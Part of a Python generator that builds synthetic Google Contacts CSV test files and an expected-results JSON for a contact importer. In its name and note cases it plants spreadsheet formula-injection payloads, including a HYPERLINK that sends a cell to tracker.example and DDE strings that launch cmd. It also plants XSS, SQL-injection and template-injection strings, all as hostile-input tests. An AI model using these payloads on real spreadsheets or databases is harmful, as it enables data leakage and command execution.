                a = n.simple(cc1, heads, length, [3, 3, 3])
                national = a.e164[len(cc1) :]
            elif cc1 == "90":
                national = "53255501" + d.digits(2)
                a = Phone("+90 " + national, "90" + national)
            else:
                national = "81855501" + d.digits(2)
                a = Phone("+52 " + national, "52" + national)
            other = national
            if cc2 == "1" and cc1 == "90":
                # 532 is no US area code: take one number whose last seven digits agree
                other = "702" + national[3:]
            b = Phone(f"+{cc2} {other}", cc2 + other)
            n.used.update(variants(a.e164) + variants(b.e164))
            a.kind = b.kind = "cross_country"
            first, last = self.person("es")
            case(
                "cross_country_trap",
                "the same digits (once: the same last seven) behind two country codes are two persons",
                Row(first, last, [("Mobile", [a])]),
                Row(first, last, [("Mobile", [b])]),
            )

        # --- signs around the digits
        for left, right in (
            ("\u202a", "\u202c"),
            ("\u202d", "\u202c"),
            ("\u200e", ""),
            ("\u2068", "\u2069"),
            ("\u200f\u202a", "\u202c\u200f"),
            ("\ufeff", ""),
            ("", "\u200b"),
        ):
            x = mobile(kind="direction_marks")
            case(
                "direction_marks",
                "invisible marks around the number",
                who([x.spelled(left + x.raw + right, "direction_marks")]),
            )
        x = mobile()
        case(
            "direction_marks",
            "the same number with and without invisible marks",
            who([x]),
            who([x.spelled("\u202a" + x.raw + "\u202c", "direction_marks")]),
        )
        for change in ({" ": "\u00a0"}, {"-": "\u2011"}, {"-": "\u2013", " ": "\u2009"}):
            x = mobile()
            raw = x.raw
            for a, b in change.items():
                raw = raw.replace(a, b)
            case(
                "unicode_punctuation", "no-break spaces and other dashes", who([x.spelled(raw, "unicode_punctuation")])
            )
        for origin, cc, heads, total, cuts, zero in (
            ("arab", "971", ["50"], 9, [2, 3, 4], "\u0660"),
            ("arab", "20", ["100"], 10, [3, 3, 4], "\u0660"),
            ("arab", "966", ["55"], 9, [2, 3, 4], "\u06f0"),
            ("hi", "91", ["98"], 10, [5, 5], "\u0966"),
            ("ja", "81", ["902"], 10, [2, 4, 4], "\uff10"),
        ):
            x = n.simple(cc, heads, total, cuts)
            raw = in_digits(x.raw, zero)
            if zero == "\uff10":
                raw = raw.replace("+", "\uff0b")
            case("non_ascii_digits", "digits of another script", who([x.spelled(raw, "non_ascii_digits")], origin))
        x = n.simple("971", ["50"], 9, [2, 3, 4])
        case(
            "non_ascii_digits",
            "one number in Latin and in Arabic-Indic digits",
            who([x], "arab"),
            who([x.spelled(in_digits(x.raw, "\u0660"), "non_ascii_digits")], "arab"),
        )

        # --- extensions and letters
        for suffix, ext in ((" ext. 12", "12"), (" x345", "345"), ("#21", "21"), (";ext=7", "7")):
            x = n.us()
            y = x.spelled(f"+1 {x.e164[1:4]}-555-{x.e164[7:]}{suffix}", "extension")
            y.ext = ext
            case("extension", "number with an extension", who([y], "us", "Work"))
        for suffix, ext in ((" ramal 21", "21"), (" R. 305", "305")):
            x = n.br_landline("intl")
            y = x.spelled(x.raw + suffix, "extension_ramal")
            y.ext = ext
            case("extension_ramal", "number with an extension as written in Brazil", who([y], label="Work"))
        for area, word in (("800", "JKL"), ("212", "LKL"), ("888", "KJL"), ("415", "JJL")):
            num = n._new(lambda area=area: "1" + area + "55501" + d.digits(2))
            case(
                "vanity",
                "letters in place of digits (JKL is 555)",
                Row(
                    "",
                    "",
                    [("Work", [Phone(f"+1-{area}-{word}-{num[7:]}", num, kind="vanity")])],
                    **{"Organization Name": d.pick(ORGS)},
                ),
            )
        x = n.us()
        case(
            "vanity",
            "one number with letters and with digits",
            who([x], "us"),
            who([x.spelled(f"+1 ({x.e164[1:4]}) JKL-{x.e164[7:]}", "vanity")], "us"),
        )

        # --- invalid numbers
        for raw, reason in INVALID:
            case("only_invalid_phone", "a name, and nothing that is a number", who([bad(raw, reason)]))
        for raw, reason in (("n/a", "text"), ("123", "too_short"), ("ligar p/ recado", "text")):
            case("invalid_and_valid_phone", "one invalid and one valid number", who([bad(raw, reason), mobile()]))
        x = mobile()
        case(
            "invalid_and_valid_phone",
            "one invalid and one valid number in one cell",
            Row(*self.person(), [("Mobile", [bad("-", "text"), x])]),
        )
        case(
            "no_name_only_invalid_phone",
            "no name, and the number is none",
            Row("", "", [("Mobile", [bad("0000", "too_short")])]),
        )

        # --- several numbers
        for _ in range(8):
            case(
                "two_numbers_in_one_cell",
                "two numbers in one cell, joined by ' ::: '",
                Row(*self.person(), [("Mobile", [n.br_mobile(), n.br_mobile()])]),
            )
        case(
            "three_numbers_in_one_cell",
            "three numbers in one cell",
            Row(*self.person(), [("Mobile", [n.br_mobile(), n.br_mobile(), n.mx()])]),
        )
        for _ in range(3):
            case(
                "four_phone_cells",
                "all four phone columns in use",
                Row(
                    *self.person(),
                    [
                        ("Mobile", [n.br_mobile()]),
                        ("Home", [n.br_landline()]),
                        ("Work", [n.br_landline()]),
                        ("Work Fax", [n.br_landline()]),
                    ],
                ),
            )
        case(
            "six_numbers",
            "four columns, two of them with two numbers",
            Row(
                *self.person(),
                [
                    ("Mobile", [n.br_mobile(), n.br_mobile()]),
                    ("Home", [n.br_landline()]),
                    ("Work", [n.br_landline(), n.us()]),
                    ("Other", [n.ar("nine")]),
                ],
            ),
        )
        for a, b in (("intl", "national"), ("compact", "eight_national"), ("trunk", "bare")):
            ddd, tail = n.br_mobile_parts()
            case(
                "same_number_twice_in_row",
                "one number twice in one row",
                who([br_mobile_spelling(ddd, tail, a), br_mobile_spelling(ddd, tail, b)]),
            )
        first, last = self.person()
        x = mobile()
        case("same_number_twice_in_row", "one number twice in one cell", Row(first, last, [("Mobile", [x, x])]))
        case(
            "gap_in_phone_columns",
            "Phone 1 is empty, Phone 2 is not",
            Row(*self.person(), [("", []), ("Mobile", [n.br_mobile()])]),
        )

        # --- who is who
        for _ in range(2):
            a, b, c = (n.br_mobile_parts() for _ in range(3))
            s = lambda p, style: br_mobile_spelling(*p, style)
            case(
                "chain",
                "first and second row share a number, second and third another: one person",
                who([s(a, "intl")]),
                who([s(a, "national"), s(b, "intl")]),
                who([s(b, "eight_intl"), s(c, "compact")]),
            )
        for _ in range(2):
            x = n.br_landline("intl")
            case(
                "shared_number_different_names",
                "two names at one number: one WhatsApp address, hence one group",
                who([x], label="Home"),
                who([x], label="Home"),
            )
        for _ in range(3):
            first, last = self.person()
            case(
                "same_name_different_phone",
                "namesakes: two persons",
                Row(first, last, [("Mobile", [n.br_mobile()])]),
                Row(first, last, [("Mobile", [n.br_mobile()])]),
            )
        for _ in range(3):
            first, last = self.person()
            mail = self.email(first, last)
            pair = [Row(first, last, [("Mobile", [n.br_mobile()])]), Row(first, "", [("Mobile", [n.br_mobile()])])]
            for r in pair:
                r.emails = [("* Other", [mail])]
            case("same_email_different_phone", "one e-mail address, two numbers: no group by number", *pair)
        for pair in (("Jos\u00e9", "Jose\u0301"), ("\u0141ukasz", "Lukasz"), ("MARCOS", "marcos")):
            x = n.br_mobile_parts()
            case(
                "same_number_other_name_spelling",
                "one number, the name composed, decomposed or in capitals",
                Row(pair[0], "Andrade", [("Mobile", [br_mobile_spelling(*x, "intl")])]),
                Row(pair[1], "Andrade", [("Mobile", [br_mobile_spelling(*x, "bare")])]),
            )

        # --- names
        odd = [
            ("formula_name", '=HYPERLINK("http://tracker.example/?c="&B2,"Clique aqui")', ""),
            ("formula_name", "+cmd|' /C calc'!A0", "Rocha"),
            ("formula_name", "@SUM(1+1)*cmd|' /C calc'!A0", ""),
            ("formula_name", "-2+3+cmd|' /C calc'!A0", ""),
            ("formula_name", "=1+1", "=A1"),
            ("formula_name", "\t=1+1", "Tab"),
            ("markup_name", "<script>alert(1)</script>", "<b>Negrito</b>"),
            ("markup_name", "{{7*7}}", "${nome}"),
            ("markup_name", "Robert'); DROP TABLE contacts;--", ""),
            ("separator_in_name", "Silva, João", '"Janjão"'),
            ("separator_in_name", "Ana; Bia", "e C\\ia"),
            ("direction_override_name", "\u202eoãoJ\u202c", "Invertido"),
            ("long_name", "Maria " + "das Graças " * 27 + "Fim", "Comprida"),
            ("one_letter_name", "Z", ""),
            ("number_as_name", "+55 11 5555-0000", ""),
            ("padded_name", "  Célia  ", " Prado\u00a0"),
            ("null_like_name", "None", "Null"),
        ]
        for kind, first, last in odd:
            case(kind, "name that must come through as text", Row(first, last, [("Mobile", [n.br_mobile()])]))
        for e in EMOJI:
            first, last = self.person()
            case("emoji_name", "emoji in the name", Row(f"{first} {e}", last, [("Mobile", [n.br_mobile()])]))
        case("emoji_name", "a name of nothing but emoji", Row("🦄✨", "", [("Mobile", [n.br_mobile()])]))
        for origin in ("br", "es", "de", "fr", "pl", "tr", "vn", "arab", "he", "zh", "ja", "ko", "ru", "hi"):
            firsts, lasts = PEOPLE[origin]
            for i in range(2):
                case(
                    "script_" + origin,
                    "name with letters of this language",
                    Row(firsts[i], lasts[i], [("Mobile", [self.number(origin)])]),
                )
        case(
            "prefix_suffix",
            "prefix, middle name and suffix",
            Row(
                "Otávio",
                "Prado",
                [("Mobile", [n.br_mobile()])],
                **{"Name Prefix": "Dr.", "Middle Name": "de Assis", "Name Suffix": "Jr."},
            ),
        )
        case(
            "nickname_only", "a nickname and no other name", Row("", "", [("Mobile", [n.br_mobile()])], Nickname="Tuca")
        )
        case(
            "file_as_only",
            "File As and no other name",
            Row("", "", [("Mobile", [n.br_mobile()])], **{"File As": "Encanador da rua"}),
        )

        # --- what is missing
        for _ in range(6):
            case("no_name_with_phone", "a number without a name", Row("", "", [("Mobile", [n.br_mobile()])]))
        for _ in range(6):
            case(
                "organization_only",
                "an organization and nothing else",
                Row("", "", **{"Organization Name": d.pick(ORGS)}),
            )
        for _ in range(6):
            case(
                "organization_with_phone",
                "an organization with a number, no person",
                Row("", "", [("Main", [n.br_landline()])], **{"Organization Name": d.pick(ORGS)}),
            )
        for _ in range(4):
            first, last = self.person()
            r = Row("", "")
            r.emails = [("* Other", [self.email(first, last)])]
            case("email_only_no_name", "an e-mail address and nothing else", r)
        for _ in range(5):
            case("name_only", "a name and nothing else", Row(*self.person()))
        for address in ("sem e-mail", "maria@", "@example.com", "a b@example.com"):
            r = Row(*self.person())
            r.emails = [("* Other", [address])]
            case("invalid_email_no_phone", "a name and an invalid e-mail address", r)

        for kind, fields in (
            ("labels_only", {}),
            ("labels_and_blanks", {"First Name": "  ", "Last Name": "\u00a0"}),
            ("note_only", {"Notes": "quem é?"}),
            ("address_only", {"Address 1 - Label": "Home", "Address 1 - City": "Belém"}),
        ):
            r = Row("", "")
            r.f.update(fields)
            r.by_chance = False
            r.labels = ["* myContacts"] + (["Clientes"] if kind == "labels_only" else [])
            case(kind, "unusable: no name, number, e-mail address or organization", r)

        # --- notes
        for note in NOTE_CASES:
            case("multi_line_note", "line breaks, quotes and commas in a note", who([n.br_mobile()], Notes=note))
        case(
            "formula_note",
            "a note that a spreadsheet would run",
            who([n.br_mobile()], Notes='=IMPORTXML("http://tracker.example","//a")'),
        )
        case(
            "very_long_note",
            "a note of more than 20,000 characters",
            who(
                [n.br_mobile()],
                Notes="".join(f'{i:04d} Conversa sobre "pedido", prazo e preço – às 10h.\n' for i in range(450)),
            ),
        )
        case("carriage_return_note", "CR LF inside a cell", who([n.br_mobile()], Notes="linha um\r\nlinha dois\r\n"))

    # ------------------------------------------------ everybody else

    def filler(self):
        d = self.d
        origin = d.weighted(WEIGHTS)
        first, last = self.person(origin)
        row = Row(first, last)
        if origin == "br" and d.chance(0.15):
            row.f["Middle Name"] = d.pick(PEOPLE["br"][1])
        if origin == "ja":
            row.f["Phonetic First Name"], row.f["Phonetic Last Name"] = KANA[first], KANA[last]
        if d.chance(0.06):
            row.f["Last Name"] = ""
        shape = d.weighted([("one", 77), ("two", 11), ("joined", 3), ("three", 2), ("none", 7)])
        label = "Mobile" if d.chance(0.85) else d.pick(["WhatsApp", "Celular", "Main", "Other", "", "* Mobile"])
        num = lambda: self.number(origin)
        if shape == "joined":
            row.phones = [(label, [num(), num()])]
        elif shape != "none":
            row.phones = [(label, [num()])]
            if shape in ("two", "three"):
                row.phones.append((d.pick(["Work", "Home"]), [self.n.br_landline() if origin == "br" else num()]))
            if shape == "three":
                row.phones.append(("Other", [num()]))
        if shape == "none" or d.chance(0.3):
            mails = [self.email(first, last)]
            if d.chance(0.1):
                mails.append(self.email(first, last))
            row.emails = [("* " + d.pick(["Home", "Work", "Other"]), mails)]
            if d.chance(0.1):
                row.emails.append(("Other", [self.email(first, last)]))
        if shape == "none":
            row.kinds.append("email_only")
        return row

    def decorate(self, row):
        """Chance fields which do not touch who the person is."""
        d = self.d
        if not row.by_chance:
            return
        row.labels = ["* myContacts"]
        for p in (0.3, 0.06):
            if d.chance(p):
                label = d.pick(LABELS)
                if label not in row.labels:
                    row.labels.append(label)
        if d.chance(0.04):
            row.labels.append("* starred")
        if row.case is not None:
            return
        if d.chance(0.18):
            row.f["Organization Name"] = d.pick(ORGS)
            if d.chance(0.5):
                row.f["Organization Title"] = d.pick(TITLES)
            if d.chance(0.2):
                row.f["Organization Department"] = d.pick(["Financeiro", "Einkauf", "Logística"])
        if d.chance(0.08):
            row.f["Birthday"] = f"{1950 + d.below(55)}-{1 + d.below(12):02d}-{1 + d.below(28):02d}"
        elif d.chance(0.02):
            row.f["Birthday"] = f"--{1 + d.below(12):02d}-{1 + d.below(28):02d}"
        if d.chance(0.12):
            row.f["Notes"] = d.pick(NOTES)
        if d.chance(0.05):
            row.f["Nickname"] = d.pick(["Zé", "Duda", "Nanda", "Tonho", "Xande"])
        if d.chance(0.1):
            row.f["Photo"] = f"https://photos.example/contacts/{d.digits(12)}"
        if d.chance(0.07):
            city, region, country = d.pick(CITIES)
            street, code = f"Rua das Acácias, {1 + d.below(900)}", d.digits(5)
            row.f.update(
                {
                    "Address 1 - Label": "Home",
                    "Address 1 - Street": street,
                    "Address 1 - City": city,
                    "Address 1 - Region": region,
                    "Address 1 - Postal Code": code,
                    "Address 1 - Country": country,
                    "Address 1 - Formatted": "\n".join(
                        [street, " ".join(x for x in (city, region) if x), code, country]
                    ),
                }
            )
        if d.chance(0.03):
            row.f.update({"Website 1 - Label": "Work", "Website 1 - Value": f"https://loja{d.below(99)}.example"})
        if d.chance(0.02):
            row.f.update(
                {"Event 1 - Label": "Anniversary", "Event 1 - Value": f"20{d.below(20):02d}-06-1{d.below(10)}"}
            )
        if d.chance(0.02):
            row.f.update({"Relation 1 - Label": "Spouse", "Relation 1 - Value": "Alex Moreira"})
        if d.chance(0.03):
            row.f.update({"Custom Field 1 - Label": "CPF/CNPJ", "Custom Field 1 - Value": "não informado"})


INVALID = [
    ("123", "too_short"),
    ("n/a", "text"),
    ("N/A", "text"),
    ("12345", "too_short"),
    ("-", "text"),
    ("?", "text"),
    ("não tem", "text"),
    ("sem telefone", "text"),
    ("desconhecido", "text"),
    ("000000000", "no_such_number"),
    ("+55", "too_short"),
    ("+", "text"),
    ("+999 123 456 789", "no_such_country"),
    ("+55 11 9876", "too_short"),
    ("98765-4321", "no_area_code"),
    ("3456-7890", "no_area_code"),
    ("+55 00 98765-4321", "no_such_area"),
    ("+5511987654321987654", "too_long"),
    ("5.51199E+12", "spoiled_by_spreadsheet"),
    ("5,51199E+12", "spoiled_by_spreadsheet"),
    ("*144#", "service_code"),
    ("190", "service_code"),
    ("maria@example.com", "email_address"),
    ("#REF!", "spoiled_by_spreadsheet"),
    ("ver anotações", "text"),
    ("+49 1", "too_short"),
    ("+1 555", "too_short"),
    ("( )   -", "text"),
    ("x", "text"),
    ("📞", "text"),
]

NOTE_CASES = [
    'Primeira linha\nSegunda linha, com vírgula\nTerceira "com aspas"',
    '"tudo entre aspas"',
    "termina em quebra de linha\n",
    "\n\ncomeça com linhas vazias",
    'aspas "" dobradas """ e , ; | \t sinais',
    'Endereço:\nRua A, 12\n"Fundos"\n::: não é separador aqui',
    "First Name,Middle Name,Last Name\nJoão,,Silva",
]


# ---------------------------------------------------------------- writing


def write_csv(path, header, records, line_end):
    text = io.StringIO()
    writer = csv.DictWriter(text, header, restval="", lineterminator=line_end)
    writer.writeheader()
    writer.writerows(records)
    path.write_bytes(text.getvalue().encode("utf-8"))


def groups_of(rows):
    """Row number -> smallest row number reachable over shared numbers."""
    parent = {}

    def root(x):
        while parent[x] != x:
            x = parent[x]
        return x

    owner = {}
    for i, row in enumerate(rows, 1):
        for _, p in row.numbers():
            if p.status != "valid":
                continue
            parent.setdefault(i, i)
            other = owner.setdefault(p.canonical, i)
            a, b = root(other), root(i)
            parent[max(a, b)] = min(a, b)
    return {i: root(i) for i in parent}


def row_truth(i, row, group):
    out = {
        "row": i,
        "name": row.name(),
        "organization": row.f.get("Organization Name", "").strip(),
        "emails": [e for _, cell in row.emails for e in cell],
        "labels": [x for x in row.labels if not x.startswith("* ")],
        "numbers": [p.truth(label) for label, p in row.numbers()],
        "group": group,
        "kinds": row.kinds,
    }
    return out


def summary(truths):
    has = lambda t, s: any(x["status"] == s for x in t["numbers"])
    number_list = [x for t in truths for x in t["numbers"]]
    valid = [x for x in number_list if x["status"] == "valid"]
    by_group = {}
    for t in truths:
        if t["group"]:
            by_group.setdefault(t["group"], []).append(t["row"])
    labels = {}
    for t in truths:
        for x in t["labels"]:
            labels[x] = labels.get(x, 0) + 1
    shared = {g: r for g, r in by_group.items() if len(r) > 1}
    return {
        "rows": len(truths),
        "rows_unusable": sum(not (t["name"] or t["numbers"] or t["emails"] or t["organization"]) for t in truths),
        "rows_with_name": sum(bool(t["name"]) for t in truths),
        "rows_with_email": sum(bool(t["emails"]) for t in truths),
        "rows_with_organization": sum(bool(t["organization"]) for t in truths),
        "rows_without_phone": sum(not t["numbers"] for t in truths),
        "rows_with_phone": sum(bool(t["numbers"]) for t in truths),
        "rows_with_valid_phone": sum(has(t, "valid") for t in truths),
        "rows_with_phone_but_none_valid": sum(bool(t["numbers"]) and not has(t, "valid") for t in truths),
        "rows_with_name_and_only_invalid_phones": sum(
            bool(t["name"] and t["numbers"]) and all(x["status"] == "invalid" for x in t["numbers"]) for t in truths
        ),
        "rows_with_only_ambiguous_phones": sum(
            bool(t["numbers"]) and all(x["status"] == "ambiguous_national" for x in t["numbers"]) for t in truths
        ),
        "rows_with_several_numbers": sum(len(t["numbers"]) > 1 for t in truths),
        "numbers": len(number_list),
        "numbers_valid": len(valid),
        "numbers_valid_but_not_strict": sum(not x["strict"] for x in valid),
        "numbers_invalid": sum(x["status"] == "invalid" for x in number_list),
        "numbers_ambiguous_national": sum(x["status"] == "ambiguous_national" for x in number_list),
        "distinct_valid_numbers": len({x["canonical"] for x in valid}),
        "distinct_persons_with_valid_number": len(by_group),
        "groups_of_several_rows": len(shared),
        "rows_in_groups_of_several_rows": sum(map(len, shared.values())),
        "labels": dict(sorted(labels.items())),
    }


def shared_groups(truths):
    out = {}
    for t in truths:
        if t["group"]:
            out.setdefault(t["group"], []).append(t)
    return [
        {
            "group": g,
            "rows": [t["row"] for t in ts],
            "numbers": sorted({x["canonical"] for t in ts for x in t["numbers"] if x["status"] == "valid"}),
            "kinds": sorted({k for t in ts for k in t["kinds"]}),
        }
        for g, ts in sorted(out.items())
        if len(ts) > 1
    ]


def dump(data):
    """JSON with one line per entry of each list, so that changes can be read."""
    lines = ["{"]
    keys = list(data)
    for k in keys:
        end = "" if k == keys[-1] else ","
        v = data[k]
        if isinstance(v, list):
            lines.append(f"{json.dumps(k)}: [")
            lines += [json.dumps(x, ensure_ascii=False) + ("," if j < len(v) - 1 else "") for j, x in enumerate(v)]
            lines.append("]" + end)
        else:
            lines.append(f"{json.dumps(k)}: {json.dumps(v, ensure_ascii=False, indent=1)}{end}")
    lines.append("}")
    return "\n".join(lines) + "\n"


def old_row(row):
    f, name = row.f, row.name()
    out = {
        "Name": name,
        "Given Name": f.get("First Name", ""),
        "Additional Name": f.get("Middle Name", ""),
        "Family Name": f.get("Last Name", ""),
        "Given Name Yomi": f.get("Phonetic First Name", ""),
        "Family Name Yomi": f.get("Phonetic Last Name", ""),
        "Nickname": f.get("Nickname", ""),
        "Birthday": f.get("Birthday", ""),
        "Notes": f.get("Notes", ""),
        "Photo": f.get("Photo", ""),
        "Group Membership": SEP.join(row.labels[1:] + row.labels[:1]),
    }
    for k, v in f.items():
        if k.startswith(("Address 1", "Website 1")):
            out[k.replace(" - Label", " - Type")] = v
    if f.get("Organization Name"):
        out["Organization 1 - Type"] = ""
        out["Organization 1 - Name"] = f["Organization Name"]
        out["Organization 1 - Title"] = f.get("Organization Title", "")
        out["Organization 1 - Department"] = f.get("Organization Department", "")
    for i, (label, values) in enumerate(row.emails, 1):
        out[f"E-mail {i} - Type"], out[f"E-mail {i} - Value"] = label, SEP.join(values)
    for i, (label, values) in enumerate(row.phones, 1):
        out[f"Phone {i} - Type"] = label
        out[f"Phone {i} - Value"] = SEP.join(p.raw for p in values)
    return out


def main(folder):
    dice = Dice(SEED)
    numbers = Numbers(dice)
    book = Book(dice, numbers)
    book.plant()

    duplicates = 12
    while len(book.rows) < ROWS - duplicates:
        book.add(book.filler())
    for row in book.rows:
        book.decorate(row)
    originals = [r for r in book.rows if r.case is None and r.numbers()]
    for i in range(duplicates):
        original = originals[i * len(originals) // duplicates]
        twin = original.copy()
        book.cases.append({"kind": "exact_duplicate", "note": "the same row twice, every cell alike"})
        for r in (original, twin):
            r.case = len(book.cases) - 1
            r.kinds = original.kinds if r is twin else r.kinds + ["exact_duplicate"]
        book.add(twin)
    dice.shuffle(book.rows)
    rows = book.rows

    root = groups_of(rows)
    order = {r: f"p{j:04d}" for j, r in enumerate(sorted(set(root.values())), 1)}
    truths = [row_truth(i, r, order.get(root.get(i))) for i, r in enumerate(rows, 1)]

    cases = []
    for c, case in enumerate(book.cases):
        at = [i for i, r in enumerate(rows, 1) if r.case == c]
        cases.append(
            {"kind": case["kind"], "rows": at, "groups": [truths[i - 1]["group"] for i in at], "note": case["note"]}
        )
    cases.sort(key=lambda c: (c["kind"], c["rows"]))

    # the older export: twenty new people, ten who are in the new file as well
    old = [book.filler() for _ in range(20)]
    for r in old:
        r.phones = r.phones[:3]
        book.decorate(r)
    old[3].f["Notes"] = 'Duas linhas,\n"entre aspas"'
    known = [r for r in rows if r.case is None and r.numbers()][:10]
    again = []
    for r in known:
        twin = r.copy()
        twin.phones = twin.phones[:3]
        again.append(twin)
    old += again
    dice.shuffle(old)
    row_of = {id(t): rows.index(r) + 1 for t, r in zip(again, known)}
    old_root = groups_of(old)
    old_truths = [row_truth(i, r, f"o{old_root[i]:04d}" if i in old_root else None) for i, r in enumerate(old, 1)]
    for t, r in zip(old_truths, old):
        t["row_in_new_file"] = row_of.get(id(r))

    totals = summary(truths)
    old_totals = summary(old_truths)
    expected = {
        "about": "Truth about google_contacts.csv and google_contacts_old_format.csv, see README.md. "
        "Rows count from 1, the first after the header.",
        "default_country": "BR",
        "totals": totals,
        "kinds": {k: sum(c["kind"] == k for c in cases) for k in sorted({c["kind"] for c in cases})},
        "unusable_rows": [
            t["row"] for t in truths if not (t["name"] or t["numbers"] or t["emails"] or t["organization"])
        ],
        "invalid_numbers": [
            {"row": t["row"], "raw": x["raw"], "reason": x["reason"]}
            for t in truths
            for x in t["numbers"]
            if x["status"] == "invalid"
        ],
        "ambiguous_national": [
            {
                "row": t["row"],
                "raw": x["raw"],
                "meant": x["meant"],
                "br_reading": x["br_reading"],
                "group_if_german": next(
                    (u["group"] for u in truths for y in u["numbers"] if y.get("canonical") == x["meant"]), None
                ),
            }
            for t in truths
            for x in t["numbers"]
            if x["status"] == "ambiguous_national"
        ],
        "groups": shared_groups(truths),
        "cases": cases,
        "old_format_totals": old_totals,
        "old_format_rows": old_truths,
        "rows": truths,
    }

    write_csv(folder / "google_contacts.csv", HEADER, [r.cells() for r in rows], "\n")
    write_csv(folder / "google_contacts_old_format.csv", OLD_HEADER, [old_row(r) for r in old], "\r\n")
    (folder / "google_contacts.expected.json").write_bytes(dump(expected).encode("utf-8"))


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent)
